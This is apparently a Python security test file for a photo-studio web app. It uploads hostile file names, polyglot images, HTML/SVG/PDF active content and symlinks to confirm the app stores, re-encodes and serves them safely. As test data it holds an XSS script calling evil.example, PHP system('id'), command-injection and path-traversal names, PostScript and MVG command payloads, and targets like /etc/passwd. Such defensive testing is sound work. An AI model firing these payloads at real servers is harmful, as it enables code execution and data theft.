"""Uploads: hostile names, and files that are a picture and a program at once. Whatever is shown to a
browser or trained on is made anew from pixels."""

from __future__ import annotations

import io
import itertools
import json
import os
import random
from collections.abc import Callable, Iterator
from pathlib import Path

from corpus.cases import Case, demand, numbered, refusal
from helpers.fake_feed import make_photos
from PIL import Image, PngImagePlugin
from security.watched_studio import LET_THROUGH, Studio, keeps_quiet, opened_studio

from blockskip.core import names
from blockskip.core.paths import data_dir
from blockskip.data import photos
from blockskip.studio import draft

SCRIPT = b"<script>fetch('//evil.example')</script><?php system('id'); ?>"
NAMES = (
    *("../../../evil.png", "..\\..\\evil.png", "/etc/cron.d/evil.png", "C:\\Windows\\evil.png"),
    *("\\\\?\\C:\\evil.png", "\\\\evil\\share\\x.png", "evil.png:stream", "evil.png::$DATA"),
    *("CON", "CON.png", "NUL", "nul.png", "aux.jpg", "COM1.png", "LPT9", "CONIN$", "con .png"),
    *("evil.png.", "evil.png ", " .png", ".", "..", "...", "", "~", "-rf.png", ".htaccess"),
    *("x" * 300 + ".png", "ä" * 200 + ".png", "a/b/c.png", "%2e%2e%2fevil.png", "evil%00.png"),
    *(
        "evil.html",
        "evil.svg",
        "evil.png\r\nSet-Cookie: a=b",
        "\u202egnp.evil",
        "évil.png",
        "e\u0301vil.png",
    ),
    *(
        "studio.json",
        "../studio.secret",
        "../../runs/luna/run.toml",
        "|touch evil",
        "$(id).png",
        "`id`.png",
    ),
    *(
        'evil".png',
        "evil';.png",
        "<img src=x onerror=alert(1)>.png",
        "\x1b]0;evil\x07.png",
        "\ud83d.png",
    ),
)


def cases(seed: int) -> list[Case]:
    """Return uploads."""
    chance = random.Random(seed)
    return [
        *numbered("name", "names of uploads", _named()),
        *numbered("upload", "uploads that are no photos, asked back", _asked_back()),
        *numbered("photo", "pictures that are programs too", _polyglots(chance)),
        *numbered("link", "links and devices as photos", _links()),
    ]


def _upload(studio: Studio, name: str, data: bytes, kind: str = "image/png") -> list[str]:
    """Upload a file as the page does, and return the paths that the answer names."""
    quoted = (
        name.replace("\\", "\\\\").replace('"', '\\"').replace("\r", "%0D").replace("\n", "%0A")
    )
    head = f'--b\r\ncontent-disposition: form-data; name="files"; filename="{quoted}"\r\n'
    body = (
        f"{head}content-type: {kind}\r\n\r\n".encode("utf-8", "surrogatepass")
        + data
        + b"\r\n--b--\r\n"
    )
    told = {"content_type": "multipart/form-data; boundary=b", "origin": f"http://{studio.host}"}
    answer = studio.ask("/gradio_api/upload", "POST", body, **told)
    keeps_quiet(answer, f"upload of {name!r}")
    demand(
        "a" not in answer.headers.get("set-cookie", ""), f"{name!r} splits the answer", LET_THROUGH
    )
    return json.loads(answer.body) if answer.status == 200 else []


def _named() -> Iterator[tuple[Callable, Callable]]:
    for name in NAMES:

        def check(studio: Studio, name: str = name) -> None:
            before = _everything(studio.data)
            places = [Path(path) for path in _upload(studio, name, _png())]
            for place in places:
                inside = place.resolve().is_relative_to((studio.data / "gradio").resolve())
                demand(inside and place.is_file(), f"{name!r} lies at {place}", LET_THROUGH)
            gradio = str(studio.data / "gradio")
            made = {
                path for path in _everything(studio.data) - before if not path.startswith(gradio)
            }
            demand(not made, f"{name!r} made {made}", LET_THROUGH)
            studio.alive()

        yield lambda folder: opened_studio(), check
    for name in NAMES:  # and of photos that lie in a folder
        yield _photo_of_name(name), _clean_draft


def _everything(folder: Path) -> set[str]:
    return {str(path) for path in folder.rglob("*")} | set(os.listdir(folder.parent))


def _photo_of_name(name: str) -> Callable[[Path], list[Path]]:
    def build(folder: Path) -> list[Path]:
        path = folder / "photos" / f"{name}x.png"
        try:
            path.resolve().relative_to(folder / "photos")
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(_png())
        except (OSError, ValueError):  # no file can have it here
            return make_photos(folder / "photos", 1)
        return [path]

    return build


def _clean_draft(paths: list[Path]) -> None:
    """The draft's files have names of its own, and their content is made from pixels."""
    folder = paths[0].parent.parent if paths else Path()
    with _data(folder / "data"):
        error = refusal(lambda: draft.add(paths))
        now = draft.load()
        demand(error is None and (now.photos or now.rejected), "nothing is said of it")
        for photo in now.photos:
            demand(names.is_safe_name(photo.file), f"the draft holds {photo.file!r}", LET_THROUGH)
            _is_pixels_alone(draft.photos_dir() / photo.file)
        for name, _ in now.rejected:
            demand(names.shown_name(name) == name, f"shown as {name!r}", LET_THROUGH)


class _data:  # noqa: N801
    """Context manager in which the program uses a data folder of its own."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder

    def __enter__(self) -> None:
        self.before = os.environ.get("BLOCKSKIP_DATA")
        os.environ["BLOCKSKIP_DATA"] = str(self.folder)

    def __exit__(self, *_: object) -> None:
        if self.before is None:
            os.environ.pop("BLOCKSKIP_DATA", None)
        else:
            os.environ["BLOCKSKIP_DATA"] = self.before


def _is_pixels_alone(path: Path) -> None:
    data = path.read_bytes()
    for word in (b"script", b"php", b"evil", b"GPS", b"http", b"alert", b"%PDF", b"PK\x03\x04"):
        demand(word not in data, f"{path.name} still has {word!r}", LET_THROUGH)
    with Image.open(path) as image:
        demand(not image.getexif() and not image.info.get("comment"), "metadata stays", LET_THROUGH)


def _asked_back() -> Iterator[tuple[Callable, Callable]]:
    """What was uploaded is never shown by the browser as a page of ours."""
    bodies = {
        "evil.html": (b"<html>" + SCRIPT, "text/html"),
        "evil.svg": (
            b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
            "image/svg+xml",
        ),
        "evil.xml": (
            b"<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'>" + SCRIPT,
            "text/xml",
        ),
        "evil.js": (b"alert(1)", "text/javascript"),
        "evil.png": (b"<html>" + SCRIPT, "image/png"),
        "evil.xhtml": (b"<html>" + SCRIPT, "application/xhtml+xml"),
        "evil": (b"<html>" + SCRIPT, "text/html"),
        "evil.pdf": (b"%PDF-1.7 /JS (alert(1))", "application/pdf"),
        "evil.swf": (b"FWS", "application/x-shockwave-flash"),
        "evil.htm.png.html": (b"<html>" + SCRIPT, "text/html"),
    }
    for name, (body, kind) in bodies.items():

        def check(studio: Studio, name: str = name, body: bytes = body, kind: str = kind) -> None:
            for path in _upload(studio, name, body, kind):
                answer = studio.ask(f"/gradio_api/file={path}")
                shown = answer.headers.get("content-type", "").partition(";")[0]
                saved = answer.headers.get("content-disposition", "").startswith("attachment")
                inert = saved or shown in ("image/png", "application/octet-stream", "text/plain")
                nosniff = answer.headers.get("x-content-type-options") == "nosniff"
                demand(
                    answer.status != 200 or (inert and nosniff),
                    f"{name} comes as {shown}",
                    LET_THROUGH,
                )

        yield lambda folder: opened_studio(), check


def _png(text: str = "") -> bytes:
    file, info = io.BytesIO(), PngImagePlugin.PngInfo()
    if text:
        info.add_text("comment", text)
    Image.new("RGB", (64, 48), (200, 120, 40)).save(file, "PNG", pnginfo=info)
    return file.getvalue()


def _jpeg(**options: object) -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 120, 40)).save(file, "JPEG", **options)
    return file.getvalue()


def _polyglots(chance: random.Random) -> Iterator[tuple[Callable, Callable]]:
    script = SCRIPT.decode()
    exif = Image.Exif()
    exif[0x010E], exif[0x9286] = script, script
    gif = io.BytesIO()
    Image.new("P", (64, 48)).save(gif, "GIF", comment=SCRIPT)
    pictures = {
        "trailing.png": _png() + SCRIPT,
        "text.png": _png(script),
        "comment.jpg": _jpeg(comment=SCRIPT),
        "exif.jpg": _jpeg(exif=exif.tobytes()),
        "profile.jpg": _jpeg(icc_profile=SCRIPT * 20),
        "trailing.jpg": _jpeg() + b"<html>" + SCRIPT,
        "zip.jpg": _jpeg() + b"PK\x03\x04" + SCRIPT,
        "comment.gif": gif.getvalue(),
        "gif.html": b"GIF89a/*" + SCRIPT + b"*/",
        "svg.png": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "html.jpg": b"<html>" + SCRIPT,
        "postscript.png": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (w) file\n",
        "mvg.png": b"push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 'https://evil.example/x.php?`id`'\n",
        "xbm.png": b"#define a_width 16\n#define a_height 7\nstatic char a_bits[] = {\n",
        "bmp.js": b"BM=1;/*" + SCRIPT,
        "pdf.jpg": b"%PDF-1.7\n/JS (alert(1))",
    }
    for name, data in itertools.chain(pictures.items(), _flipped(pictures, chance)):

        def build(folder: Path, name: str = name, data: bytes = data) -> list[Path]:
            (folder / "photos").mkdir()
            (folder / "photos" / name).write_bytes(data)
            return [folder / "photos" / name]

        yield build, _clean_draft
        yield build, _reencoded


def _flipped(pictures: dict[str, bytes], chance: random.Random) -> Iterator[tuple[str, bytes]]:
    for name, data in pictures.items():
        changed = bytearray(data)
        for _ in range(3):
            changed[chance.randrange(len(changed))] ^= 1 << chance.randrange(8)
        yield f"flipped {name}", bytes(changed)


def _reencoded(paths: list[Path]) -> None:
    """The other way in: uploads of programs, and what a server of the user's own is sent."""
    from blockskip.models.captioners.server import data_uri

    with _data(paths[0].parent.parent / "data"):
        data_dir().mkdir()
        target = data_dir() / "clean.png"
        if refusal(lambda: photos.reencode(paths[0], target)) is None:
            _is_pixels_alone(target)
            sent = data_uri(photos.open_photo(paths[0]))
            demand(
                sent.startswith("data:image/jpeg;base64,"), "what is sent is no JPEG", LET_THROUGH
            )


def _links() -> Iterator[tuple[Callable, Callable]]:
    """Links in the places from which pictures are served, to files that are nobody's business."""
    targets = (
        "/etc/passwd",
        "../studio.secret",
        "../../studio.json",
        "/dev/zero",
        "/proc/self/environ",
        ".",
    )
    for target in targets:
        for kind in ("draft", "photos", "previews", "pictures"):

            def check(studio: Studio, target: str = target, kind: str = kind) -> None:
                from blockskip.runs.run import list_runs

                run = list_runs()[0]
                folder = draft.photos_dir() if kind == "draft" else run.folder / kind
                folder.mkdir(parents=True, exist_ok=True)
                link = folder / "link.png"
                link.symlink_to(target)
                try:
                    for place in (
                        f"/blockskip/picture/{kind}/{run.name}/link.png?size=320",
                        "/blockskip/crops/link.png?low=32&high=64&seed=0&patches=dynamic&model=demo",
                    ):
                        answer = studio.ask(place.replace(" ", "%20"))
                        keeps_quiet(answer, f"{place} → {target}")
                        demand(
                            answer.status in (400, 404),
                            f"{target} is served: {answer.status}",
                            LET_THROUGH,
                        )
                finally:
                    link.unlink()

            if os.name != "nt":
                yield lambda folder: opened_studio(), check
